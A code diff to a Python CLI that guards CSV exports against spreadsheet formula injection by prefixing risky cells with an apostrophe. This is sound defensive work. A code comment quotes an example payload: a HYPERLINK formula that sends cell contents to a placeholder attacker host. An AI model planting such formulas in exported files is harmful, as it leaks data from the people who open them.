@@ -277,6 +277,20 @@ def _safe(text: str) -> str:
     return _for_terminal(text)
 
 
+# A spreadsheet reads a cell starting with one of these as a formula: a server-chosen name such
+# as `=HYPERLINK("https://evil.example/?"&A1, "open")` would run in whoever opens the CSV.
+_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _for_spreadsheet(text: str) -> str:
+    """A CSV cell that a spreadsheet shows as text, never evaluates (OWASP's CSV injection rule).
+
+    A leading apostrophe is what spreadsheets themselves use to mark a cell as text; only cells
+    that would start a formula get one (every column of the CSV is text: no number loses a sign).
+    """
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
+
+
 def _is_terminal(stream: TextIO) -> bool:
     try:
         return stream.isatty()
@@ -378,8 +392,10 @@ def _list(args: argparse.Namespace, out: TextIO) -> int:
                 if args.jsonl:
                     out.write(json.dumps(data, default=str) + "\n")
                 elif writer is not None:
-                    # Escaped too: a CSV is as often read in a terminal as in a spreadsheet.
-                    writer.writerow([_safe(_cell(data.get(f))) for _, f in _LIST_COLUMNS])
+                    # Escaped for both of its readers: a terminal and a spreadsheet.
+                    writer.writerow(
+                        [_for_spreadsheet(_safe(_cell(data.get(f)))) for _, f in _LIST_COLUMNS]
+                    )
                 else:
                     rows.append(data)
                 if progress is not None:
